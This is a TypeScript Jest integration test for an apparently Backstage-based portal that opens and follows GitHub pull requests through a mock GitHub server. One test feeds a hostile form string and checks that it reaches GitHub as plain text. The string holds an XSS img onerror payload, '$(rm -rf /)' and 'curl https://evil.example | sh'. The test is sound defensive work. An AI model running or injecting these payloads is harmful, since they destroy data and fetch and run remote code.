import { execFileSync } from 'node:child_process';
import { rm } from 'node:fs/promises';
import { setTimeout as sleep } from 'node:timers/promises';
import { mockServices } from '@backstage/backend-test-utils';
import { DefaultEventsService, type EventsService } from '@backstage/plugin-events-node';
// The server is a test's own: it holds every request and answer against GitHub's published description.
// eslint-disable-next-line @backstage/no-forbidden-package-imports
import { startGithubServer, TOKEN, type GithubServer } from '@busline/forge/src/testing/githubServer/githubServer';
import type { ChangeRequestAnswer, ChangeRequestDetail } from '@busline/plugin-eventbridge-common';
import { parse } from 'yaml';
import { publish, subscribing } from '../testing/changeStories';
import { createChangesHarness, type ChangesHarness } from '../testing/changesHarness';
import { createWorld, EVENTS, type ChangesWorld } from '../testing/changesWorld';
import { closeDatabases, openTestDatabase } from '../testing/databases';

jest.setTimeout(120_000);

const PLATFORM = 'user:default/platform';
const LONGEST_MS = 30_000;

let world: ChangesWorld;
let github: GithubServer;
let events: EventsService;
let harness: ChangesHarness;

beforeAll(async () => {
  world = await createWorld({ services: 11 });
  github = await startGithubServer(world.forgeDirectory);
  events = DefaultEventsService.create({ logger: mockServices.logger.mock() });
  harness = await createChangesHarness({
    world,
    knex: await openTestDatabase('SQLite'),
    github: { url: github.url, token: TOKEN, disk: github.state.disk },
    events,
  });
});
afterEach(() => {
  github.fault = () => undefined;
  github.state.awaited = [];
  github.state.checks = [];
});
afterAll(async () => {
  await harness.close();
  await closeDatabases();
  await github.stop();
  await world.close();
  if (github.violations.length > 0) throw new Error(`Not as GitHub describes it:\n${github.violations.join('\n')}`);
});

const as = (service: number) => harness.as(`user:default/team-${service}`);
const see = (id: string) => harness.as(PLATFORM).get<ChangeRequestDetail>(`/change-requests/${id}`);
const disk = () => github.state.disk;
/** Polls until it is seen: a look that was on its way already may have asked before. */
async function follows(id: string, isThere: (change: ChangeRequestDetail) => boolean): Promise<ChangeRequestDetail> {
  return comesTo(id, isThere, async () => {
    await harness.knex('change_requests').where({ id }).update({ look_at: '2000-01-01T00:00:00.000Z' });
    await harness.follow();
  });
}
/** Without asking: only what a webhook started moves it. */
async function comesTo(
  id: string,
  isThere: (change: ChangeRequestDetail) => boolean,
  move: () => Promise<void> = async () => {},
): Promise<ChangeRequestDetail> {
  for (const until = Date.now() + LONGEST_MS; ; await sleep(50)) {
    await move();
    const change = await see(id);
    if (isThere(change)) return change;
    if (Date.now() > until) throw new Error(`It stands at ${change.state}: ${change.waitsFor}`);
  }
}
/** What GitHub sends, as Backstage's events backend hands it on. */
const webhook = (event: string, repository: string, number: number) =>
  events.publish({
    topic: 'github',
    eventPayload: { action: 'closed', repository: { full_name: repository }, pull_request: { number } },
    metadata: { 'x-github-event': event },
  });

it('is followed by polling from the form to the first event; people merge on GitHub', async () => {
  const opened = await as(1).ask(subscribing(1));
  expect(opened.pullRequests.map(({ url, cloneUrl }) => [url, cloneUrl])).toEqual([
    ['https://github.example/key/events/pull/1', 'https://github.com/key/events.git'],
    ['https://github.example/key/service-1/pull/1', 'https://github.com/key/service-1.git'],
  ]);
  expect(opened.waitsFor).toBe('The merge of key/events#1 and key/service-1#1');
  expect(opened.stations[1]).toEqual({ id: 'approved', state: 'unneeded' });
  expect(opened.actions).toMatchObject({ approve: { allowed: 'never' }, merge: { allowed: 'never' } });
  expect(await harness.as(PLATFORM).tryPost(`/change-requests/${opened.id}/merge`)).toMatchObject({
    status: 400,
    body: { error: { message: 'Pull requests are reviewed and merged on their forge, not here' } },
  });

  await disk().merge({ repository: 'key/service-1', number: 1, by: 'octocat' });
  await follows(opened.id, ({ waitsFor }) => waitsFor === 'The merge of key/events#1');
  await disk().merge({ repository: EVENTS, number: 1, by: 'hubot' });
  await harness.until(opened.id, 'deployed');
  await publish(world);
  const live = await harness.until(opened.id, 'live');
  expect(live.history.filter(({ by }) => by !== undefined).map(({ by, text }) => `${by} ${text}`)).toEqual([
    'user:default/team-1 sent the form',
    'user:default/team-1 opened the pull request key/events#1',
    'user:default/team-1 opened the pull request key/service-1#1',
    'octocat merged key/service-1#1',
    'hubot merged key/events#1',
  ]);
});

it('is followed by webhooks, with no look in between; what a webhook claims is not believed', async () => {
  const { id, pullRequests } = await as(2).ask(subscribing(2));
  await harness.knex('change_requests').where({ id }).update({ look_at: null });
  const number = pullRequests.find(({ repository }) => repository === EVENTS)!.number!;
  await webhook('pull_request', EVENTS, number);
  await webhook('pull_request', 'key/elsewhere', 1);
  expect((await see(id)).state).toBe('open');

  await disk().merge({ repository: 'key/service-2', number: 1, by: 'octocat' });
  await webhook('pull_request', 'key/service-2', 1);
  const half = await comesTo(id, ({ pullRequests: [, service] }) => service!.state === 'merged');
  expect(half.waitsFor).toBe(`The merge of key/events#${number}`);

  await disk().merge({ repository: EVENTS, number, by: 'hubot' });
  await webhook('pull_request', EVENTS, number);
  const deployed = await comesTo(id, ({ state }) => state === 'deployed');
  expect(deployed.stacks.length).toBeGreaterThan(1);
});

it('says whose review and which check GitHub waits for', async () => {
  github.state.awaited = ['octocat'];
  const { id, pullRequests } = await as(3).ask(subscribing(3));
  const waiting = await see(id);
  expect(waiting).toMatchObject({ waitsFor: 'The approval of octocat', turn: ['octocat'] });
  expect(waiting.stations[1]).toMatchObject({ id: 'approved', state: 'current' });
  for (const { repository, number } of pullRequests) {
    await disk().review({ repository, number: number!, by: 'octocat', verdict: 'approved' });
  }
  github.state.checks = [{ name: 'busline check', state: 'pending' }];
  const checked = await follows(id, ({ waitsFor }) => waitsFor === 'The check busline check');
  expect(checked).toMatchObject({ state: 'approved', turn: [] });
  github.state.checks = [{ name: 'busline check', state: 'failed', description: 'stack-outdated' }];
  await follows(id, ({ waitsFor }) => /^busline check fails on key\/events#\d+$/.test(waitsFor!));
});

const REFUSALS: readonly (readonly [string, { operation: string; status: number; message: string }, RegExp])[] = [
  [
    'an App that may not write (403)',
    { operation: 'git/create-tree', status: 403, message: 'Resource not accessible by integration' },
    /Resource not accessible by integration/,
  ],
  [
    'a body that GitHub refuses (422)',
    { operation: 'pulls/create', status: 422, message: 'Validation Failed: body is too long' },
    /body is too long/,
  ],
  [
    'a branch protection that refuses the new branch',
    { operation: 'git/create-ref', status: 422, message: 'Repository rule violations found' },
    /Repository rule violations found/,
  ],
];

it.each(REFUSALS.map((each, index) => [index + 4, ...each] as const))(
  'service %i: %s is told on the page in GitHub’s words, and a second try finishes it',
  async (service, _, { operation, status, message }, words) => {
    github.fault = seen => (seen.operation === operation ? { kind: 'answer', status, message } : undefined);
    const answer = await as(service).post<ChangeRequestAnswer>('/change-requests', {
      request: subscribing(service),
      key: `refused ${service}`,
    });
    if (answer.kind !== 'change') throw new Error(JSON.stringify(answer));
    const { id } = answer.change;
    expect((await as(service).tryPost(`/change-requests/${id}/pull-requests`)).body.error!.message).toMatch(words);
    const failed = await see(id);
    expect(failed.state).toBe('failed');
    expect(failed.waitsFor).toMatch(words);
    expect(failed.turn).toContain(`user:default/team-${service}`);
    expect(failed.actions.retry).toEqual({ allowed: true });
    github.fault = () => undefined;
    await harness.as(PLATFORM).post(`/change-requests/${id}/retry`);
    const opened = await harness.until(id, 'open');
    expect(opened.pullRequests.map(({ state }) => state)).toEqual(['open', 'open']);
    expect(await disk().listPullRequests(`key/service-${service}`)).toHaveLength(1);
  },
);

it('a GitHub that is away while it is followed is told, and asked again by itself', async () => {
  const { id } = await as(7).ask(subscribing(7));
  github.fault = ({ operation }) =>
    operation === 'pulls/get' ? { kind: 'answer', status: 403, message: 'Must have admin rights' } : undefined;
  const troubled = await follows(id, ({ waitsFor }) => waitsFor!.includes('tries again'));
  expect(troubled.state).toBe('open');
  expect(troubled.waitsFor).toMatch(/^The merge of .*\. The portal tries again by itself: .*Must have admin rights/);
  github.fault = () => undefined;
  await follows(id, ({ waitsFor }) => !waitsFor!.includes('tries again'));
});

it('a pull request that was closed, or its branch deleted, on GitHub is told, and a new one is opened on asking', async () => {
  const { id, pullRequests } = await as(8).ask(subscribing(8));
  await disk().close('key/service-8', 1, { by: 'octocat' });
  const number = pullRequests[0]!.number!;
  const failed = await follows(id, ({ state }) => state === 'failed');
  expect(failed.waitsFor).toBe(
    `key/service-8#1 was closed while key/events#${number} is open: try again to have a new one opened in its place, or close the other one too`,
  );
  await harness.as(PLATFORM).post(`/change-requests/${id}/retry`);
  const opened = await follows(id, ({ state }) => state === 'open');
  expect(opened.pullRequests.map(({ state, number: each, branch }) => [state, each, branch])).toEqual([
    ['open', number, pullRequests[0]!.branch],
    ['open', 2, `${pullRequests[0]!.branch}-2`],
  ]);
});

it('what people wrote into the form reaches GitHub as text: no mention, no link, no HTML, nothing for a shell', async () => {
  const hostile =
    '@key/admins closes #1 <img src=x onerror=alert(1)> [x](https://evil.example) $(rm -rf /) `id`; curl https://evil.example | sh';
  const wanted = { ...subscribing(11, { description: hostile }), reason: `${hostile}\n\nCo-authored-by: a <a@b.c>` };
  const { pullRequests } = await as(11).ask(wanted);
  for (const { repository, number, branch } of pullRequests) {
    const { title, body } = await disk().getPullRequest(repository, number!);
    const plain = body.replace(/(`{3,})[^]*?\n\1/g, '').replace(/(`+)(?!`)[^]*?[^`]\1(?!`)/g, '');
    expect(plain).not.toMatch(/@\w|[^\\]#\d|[^\\]<img|https?:\/\/evil|[^\\]\]\(https:\/\/evil/);
    expect(title).not.toMatch(/@\w|#\d|evil/);
    expect(branch).toMatch(/^busline\/onboard-service-11-[0-9a-f]{10}$/);
    const message = execFileSync('git', ['-C', disk().directoryOf(repository), 'log', '-1', '--format=%B', branch]);
    expect(String(message)).not.toMatch(/Co-authored|evil|@\w/);
  }
  const files = await disk().files(EVENTS, pullRequests[0]!.branch);
  const declared = parse(files.read('subscriptions/service-11/granted.yaml')!);
  expect(declared.description).toBe(hostile);
});

it('a repository without a commit gets a first one; one that is not there is told with what to do', async () => {
  const folder = disk().directoryOf('key/service-10');
  await rm(folder, { recursive: true });
  const answer = await as(10).post<ChangeRequestAnswer>('/change-requests', { request: subscribing(10), key: 'new' });
  if (answer.kind !== 'change') throw new Error(JSON.stringify(answer));
  const { id } = answer.change;
  expect((await as(10).tryPost(`/change-requests/${id}/pull-requests`)).body.error!.message).toBe(
    'There is no repository key/service-10, or the portal may not see it: make it (it may stay empty), let the portal write to it, and try again',
  );
  expect(await see(id)).toMatchObject({ state: 'failed', actions: { retry: { allowed: true } } });
  execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', folder]);
  await harness.as(PLATFORM).post(`/change-requests/${id}/retry`);
  await follows(id, ({ state }) => state === 'open');
  const onMain = await disk().files('key/service-10', 'main');
  expect(onMain.paths()).toEqual(['README.md']);
});

it('a repository that is gone is told with the ways out, and keeps nobody from closing', async () => {
  const { id } = await as(9).ask(subscribing(9));
  github.fault = ({ path }) =>
    path.includes('/service-9') ? { kind: 'answer', status: 404, message: 'Not Found' } : undefined;
  const troubled = await follows(id, ({ waitsFor }) => waitsFor!.includes('tries again'));
  expect(troubled.waitsFor).toMatch(
    /key\/service-9 has no pull request 1, or the portal may no longer see it: have that mended, or close/,
  );
  expect(
    (await harness.as('user:default/team-9').post<ChangeRequestDetail>(`/change-requests/${id}/close`)).state,
  ).toBe('closed');
});
